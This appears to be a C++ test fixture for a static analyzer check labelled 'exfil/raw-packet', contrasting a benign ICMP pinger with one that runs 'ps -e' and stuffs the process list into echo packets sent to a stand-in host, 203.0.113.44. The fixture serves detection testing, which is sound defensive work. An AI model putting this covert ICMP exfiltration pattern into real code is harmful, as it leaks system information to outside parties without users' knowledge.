/* C++: what an echo request carries is up to a class of its own: what a command prints, or a
 * pattern. */
#include <arpa/inet.h>
#include <cstdio>
#include <memory>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <sys/socket.h>
#include <unistd.h>

namespace {

struct Packet {
    icmphdr head;
    char body[56];
};

class Pinger {
  public:
    explicit Pinger(const char *where) : out_(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)) {
        peer_.sin_family = AF_INET;
        peer_.sin_addr.s_addr = inet_addr(where);
    }
    virtual ~Pinger() {
        close(out_);
    }
    void ping() {
        Packet packet{};
        packet.head.type = ICMP_ECHO;
        fill(packet.body, sizeof packet.body);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/raw-packet]}}
        sendto(out_, &packet, sizeof packet, 0, reinterpret_cast<sockaddr *>(&peer_), sizeof peer_);
    }

  protected:
    virtual void fill(char *body, std::size_t size) = 0;

  private:
    int out_;
    sockaddr_in peer_{};
};

class ListPinger final : public Pinger {
  public:
    ListPinger() : Pinger("203.0.113.44") {}

  protected:
    void fill(char *body, std::size_t size) override {
        std::FILE *pipe = popen("ps -e | sort -r", "r");
        if (pipe && std::fread(body, 1, size, pipe) > 0)
            pclose(pipe);
    }
};

class PatternPinger final : public Pinger {
  public:
    explicit PatternPinger(const char *where) : Pinger(where) {}

  protected:
    void fill(char *body, std::size_t size) override {
        for (std::size_t i = 0; i < size; i++)
            body[i] = static_cast<char>(i);
    }
};

} // namespace

void bad_pings() {
    std::unique_ptr<Pinger> pinger(new ListPinger);
    for (int i = 0; i < 16; i++)
        pinger->ping();
}

void good_pings(const char *where) {
    std::unique_ptr<Pinger> pinger(new PatternPinger(where));
    for (int i = 0; i < 16; i++)
        pinger->ping();
}
